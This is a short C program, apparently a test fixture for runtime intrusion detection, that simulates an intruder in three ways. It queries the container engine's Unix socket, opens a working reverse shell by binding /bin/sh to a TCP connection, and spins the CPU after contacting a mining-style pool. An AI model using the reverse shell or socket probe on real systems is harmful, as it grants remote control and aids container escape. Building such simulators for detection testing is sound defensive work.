// What an intruder does that needs more than a shell: calls the engine's socket, ties a shell to a connection, burns
// the processor while connected to a pool. Harmless: it asks for a version, and its shell finds nobody to obey.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

static int fail(const char *what)
{
	perror(what);
	return 1;
}

static int call(const char *path)
{
	static const char question[] = "GET /v1.41/containers/json HTTP/1.1\r\nHost: engine\r\n\r\n";
	struct sockaddr_un peer = {.sun_family = AF_UNIX};
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	char answer[4096];

	strncpy(peer.sun_path, path, sizeof(peer.sun_path) - 1);
	if (connect(fd, (struct sockaddr *)&peer, sizeof(peer)))
		return fail(path);
	if (write(fd, question, sizeof(question) - 1) < 0 || read(fd, answer, sizeof(answer)) < 0)
		return fail(path);
	return 0;
}

static int connected(const char *address, int port)
{
	struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(port)};
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	inet_pton(AF_INET, address, &peer.sin_addr);
	if (connect(fd, (struct sockaddr *)&peer, sizeof(peer)))
		exit(fail(address));
	return fd;
}

static int shell(const char *address, int port)
{
	int fd = connected(address, port);

	for (int stream = 0; stream < 3; stream++)
		dup2(fd, stream);
	execl("/bin/sh", "sh", (char *)NULL);
	return fail("sh");
}

static int burn(const char *address, int port)
{
	volatile unsigned long count = 0;

	if (write(connected(address, port), "\x16\x03\x01", 3) != 3)
		return fail(address);
	for (;;)
		count++;
}

int main(int count, char **word)
{
	const char *what = count > 1 ? word[1] : "";

	if (!strcmp(what, "call") && count == 3)
		return call(word[2]);
	if (!strcmp(what, "shell") && count == 4)
		return shell(word[2], atoi(word[3]));
	if (!strcmp(what, "burn") && count == 4)
		return burn(word[2], atoi(word[3]));
	fprintf(stderr, "intruder: call PATH | shell ADDRESS PORT | burn ADDRESS PORT\n");
	return 2;
}
